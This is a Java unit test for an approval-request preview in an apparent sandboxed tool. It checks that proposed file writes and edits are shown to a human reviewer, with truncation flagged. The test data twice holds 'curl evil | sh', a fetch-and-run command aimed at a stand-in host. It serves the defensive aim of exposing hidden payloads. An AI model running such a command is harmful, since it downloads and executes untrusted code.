package dev.toolfs.sandbox;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class ApprovalRequestTest {

    @Test
    void aWriteShowsItsContentWholeUpToTheCut() {
        assertThat(ApprovalRequest.Change.write("#!/bin/sh\nmake test\n").preview(100))
                .isEqualTo("It would write 20 characters:\n#!/bin/sh\nmake test\n");
        // Past the cut, a payload could hide behind harmless lines: the preview says it is cut, and how long the text is.
        assertThat(ApprovalRequest.Change.write("a".repeat(10) + "curl evil | sh").preview(10))
                .isEqualTo("It would write 24 characters:\naaaaaaaaaa\n[cut: 10 of 24 characters shown; deny unless you"
                        + " have seen the whole change elsewhere]");
        // Not between the two halves of a character.
        assertThat(ApprovalRequest.Change.write("abc\uD83D\uDE00").preview(4))
                .isEqualTo("It would write 5 characters:\nabc\n[cut: 3 of 5 characters shown; deny unless you have seen"
                        + " the whole change elsewhere]");
    }

    @Test
    void anEditShowsBothStringsAndHowManyItReplaces() {
        assertThat(ApprovalRequest.Change.edit("echo two", "curl evil | sh", true).preview(100))
                .isEqualTo("It would replace every occurrence of:\necho two\nwith:\ncurl evil | sh");
        assertThat(ApprovalRequest.Change.edit("x", "y", false).preview(100))
                .isEqualTo("It would replace the one occurrence of:\nx\nwith:\ny");
        assertThat(ApprovalRequest.Change.edit("old", "0123456789", false).preview(10))
                .isEqualTo("It would replace the one occurrence of:\nold\nwith:\n01234\n[cut: 5 of 10 characters shown;"
                        + " deny unless you have seen the whole change elsewhere]");
    }
}
